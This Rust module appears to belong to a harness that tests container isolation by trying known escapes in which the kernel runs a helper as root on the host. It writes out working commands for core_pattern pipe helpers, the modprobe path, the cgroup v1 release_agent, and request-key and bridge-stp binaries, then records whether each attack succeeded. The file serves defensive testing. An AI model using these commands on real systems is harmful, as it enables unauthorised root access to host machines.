//! Programs that the kernel starts as root, outside every container.

use super::{Attack, Target, Verdict};

/// Whether the helper ran since; the mark goes.
fn ran(target: &mut Target) -> bool {
    // The kernel does not wait for all of its helpers.
    target.sh("for n in 1 2 3 4 5; do [ ! -e /host/run/intruder/mark ] || break; sleep 0.1; done");
    let ran = target.vm.attempt("[ -e /host/run/intruder/mark ]").0 == 0;
    target.sh("rm -f /host/run/intruder/mark");
    ran
}

fn verdict(ran: bool) -> Verdict {
    if ran { Verdict::Broken("ran as root outside".into()) } else { Verdict::Held("found nothing to run".into()) }
}

/// Each way to have one started.
pub fn attacks(target: &mut Target) -> Vec<Attack> {
    // It does run, where the node's /run is seen.
    target.sh("chroot /host /run/intruder/helper");
    assert!(ran(target));
    let mut attacks = Vec::new();
    // The relative ones start from the working directory that the kernel's threads share.
    for helper in [
        "/run/intruder/helper",
        "/run/intruder/busybox touch /run/intruder/mark",
        "/var/run/intruder/helper",
        "run/intruder/helper",
        "../run/intruder/helper",
        "../../../run/intruder/helper",
    ] {
        target.sh(&format!("echo '|{helper}' >/proc/sys/kernel/core_pattern; sh -c 'kill -SEGV $$' || true"));
        let name = if helper.contains("busybox") { "a program of its own" } else { helper };
        attacks.push(Attack::new(format!("core_pattern {name}"), verdict(ran(target))));
    }
    target.sh("echo core >/proc/sys/kernel/core_pattern");
    for helper in ["/run/intruder/helper", "run/intruder/helper"] {
        target.sh(&format!("echo {helper} >/proc/sys/kernel/modprobe"));
        // A file system that the kernel does not know has it ask modprobe.
        assert_ne!(target.vm.attempt("mkdir -p /mnt && mount -t unheard-of none /mnt").0, 0);
        attacks.push(Attack::new(format!("modprobe {helper}"), verdict(ran(target))));
    }
    target.sh("echo >/proc/sys/kernel/modprobe");
    // A hierarchy of cgroups as they were once, whose agent the kernel starts when the last process leaves one.
    target.sh("mkdir -p /tmp/v1 && mount -t cgroup -o none,name=intruder intruder /tmp/v1 && mkdir /tmp/v1/left && \
         echo 1 >/tmp/v1/left/notify_on_release && echo /run/intruder/helper >/tmp/v1/release_agent && \
         sh -c 'echo $$ >/tmp/v1/left/cgroup.procs'");
    attacks.push(Attack::new("cgroup v1 release_agent", verdict(ran(target))));
    target.sh("rmdir /tmp/v1/left; umount /tmp/v1");
    // Programs that the kernel names itself: where the root can be written, they are put there.
    target.beside_containerd("cp /run/intruder/helper /sbin/request-key; cp /run/intruder/helper /sbin/bridge-stp");
    target.sh("/tmp/intruder ask-key");
    attacks.push(Attack::new("/sbin/request-key", verdict(ran(target))));
    target.sh("ip link add intruder type bridge && /tmp/intruder bridge intruder && ip link del intruder");
    attacks.push(Attack::new("/sbin/bridge-stp", verdict(ran(target))));
    attacks
}
